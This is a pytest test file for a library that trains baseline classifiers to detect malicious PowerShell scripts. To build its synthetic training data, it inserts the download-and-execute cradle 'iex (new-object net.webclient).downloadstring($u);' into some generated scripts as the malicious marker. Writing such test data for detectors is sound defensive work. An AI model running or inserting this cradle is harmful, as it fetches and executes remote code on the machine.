import numpy as np
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from psembed import baselines
from psembed.errors import CorpusError, ParameterError

FITTED = ("bag_of_words", "token_3gram", "char_3gram")


def corpus(seed, n=240):
    """Clean-looking scripts; the malicious ones fetch and run something from a reserved domain."""
    generator = np.random.default_rng(seed)
    nouns = [f"noun{letter}{other}" for letter in "abcdefgh" for other in "abcdefgh"]
    labels = np.arange(n) % 4 == 0
    texts = []
    for malicious in labels:
        words = generator.choice(nouns, 60).tolist()
        lines = [
            f"get-item ${one} | select {other};" for one, other in zip(words[::2], words[1::2], strict=True)
        ]
        if malicious:
            lines.insert(generator.integers(30), "iex (new-object net.webclient).downloadstring($u);")
        texts.append(" ".join(lines))
    return texts, labels.astype(int)


@pytest.mark.parametrize("name", FITTED)
def test_a_planted_difference_is_found_on_unseen_scripts(name):
    texts, labels = corpus(0)
    model = baselines.fit(name, texts, labels, seed=0, validation=corpus(1))
    unseen, truth = corpus(2)
    scores = model.score(unseen)
    assert scores.dtype == np.float32
    assert scores.shape == (len(unseen),)
    assert scores[truth == 1].min() > scores[truth == 0].max()
    assert set(model.tried) == set(baselines.GRID)
    assert model.tried[model.strength] == max(model.tried.values())


@pytest.mark.parametrize("name", FITTED)
def test_same_seed_gives_the_same_scores_and_a_series_reads_like_a_list(name):
    texts, labels = corpus(3, n=60)
    one = baselines.fit(name, texts, labels, seed=5).score(texts)
    two = baselines.fit(name, pl.Series(texts), labels, seed=5).score(pl.Series(texts))
    assert np.array_equal(one, two)


def test_nothing_is_learned_from_validation_or_scored_texts():
    texts, labels = corpus(4, n=80)
    held = (["zqx jkv zqx jkv", "wvu qzq wvu qzq"], np.array([0, 1]))
    with_held = baselines.fit("char_3gram", texts, labels, seed=0, validation=held)
    without = baselines.fit("char_3gram", texts, labels, seed=0)
    assert np.array_equal(with_held.columns, without.columns)
    assert np.array_equal(with_held.weighting.idf_, without.weighting.idf_)


def test_the_scores_do_not_depend_on_the_batch(monkeypatch):
    texts, labels = corpus(5, n=60)
    whole = baselines.fit("token_3gram", texts, labels, seed=0).score(texts)
    monkeypatch.setattr(baselines, "_BATCH", 7)
    model = baselines.fit("token_3gram", texts, labels, seed=0)
    assert np.allclose(model.score(texts), whole, atol=1e-6)
    assert np.allclose(np.concatenate([model.score([text]) for text in texts]), whole, atol=1e-6)


@given(st.lists(st.text(st.sampled_from("aB~ \n\té\U0001f600"), max_size=9), min_size=1, max_size=6))
def test_character_3grams_are_those_of_each_text_alone(texts):
    columns, bounds = baselines._characters(pl.Series(texts, dtype=pl.String))
    folded = [
        [0 if c.isspace() else ord(c) - 32 if 32 < ord(c) < 127 else baselines.CODES - 1 for c in text]
        for text in texts
    ]
    expected = [
        (row[i] * baselines.CODES + row[i + 1]) * baselines.CODES + row[i + 2]
        for row in folded
        for i in range(len(row) - 2)
    ]
    assert columns.tolist() == expected
    assert np.diff(bounds).tolist() == [max(len(text) - 2, 0) for text in texts]


def test_case_is_a_signal_for_characters_and_not_for_tokens():
    for name, differs in (("char_3gram", True), ("bag_of_words", False)):
        lower, mixed = (next(baselines._counts(name, [text])) for text in ("iex $a", "IeX $A"))
        assert bool((lower != mixed).sum()) is differs


def test_a_long_text_is_read_at_both_ends():
    head, tail = baselines.HEAD, baselines.TAIL
    text = "h" * head + "m" * 100 + "t" * tail
    assert baselines._ends(pl.Series([text, "short", "é" * (head + tail)])).to_list() == [
        "h" * head + "t" * tail,
        "short",
        "é" * (head + tail),
    ]


def test_a_50_mb_one_line_script_and_an_empty_one_are_scored():
    texts, labels = corpus(6, n=40)
    for name in FITTED:
        scores = baselines.fit(name, texts, labels, seed=0).score(["$a=1;" * 10_000_000, "", "é"])
        assert np.isfinite(scores).all()


def test_one_line_rule_counts_lines():
    rule = baselines.fit("one_line_rule", [], [], seed=0)
    texts = ["iex $a", "\r\niex $a\n", "a\nb", "a\r\nb\r\nc\r\nd", "a\rb", ""]
    assert rule.score(texts).tolist() == [1, 1, 0.5, 0.25, 0.5, 1]
    assert rule.score(texts).dtype == np.float32


def test_no_text_gives_no_score():
    texts, labels = corpus(7, n=40)
    for name in baselines.BASELINES:
        assert baselines.fit(name, texts, labels, seed=0).score([]).shape == (0,)


def test_bad_input_is_named():
    texts, labels = corpus(8, n=20)
    with pytest.raises(ParameterError, match="'svm': expected one of one_line_rule, bag_of_words"):
        baselines.fit("svm", texts, labels, seed=0)
    with pytest.raises(CorpusError, match="malicious"):
        baselines.fit("bag_of_words", texts, np.zeros(20, int), seed=0)
    with pytest.raises(CorpusError, match="20 texts and 3 labels"):
        baselines.fit("bag_of_words", texts, [0, 1, 0], seed=0)
    with pytest.raises(CorpusError, match="malicious"):
        baselines.fit("bag_of_words", texts, labels, seed=0, validation=(texts, np.ones(20, int)))
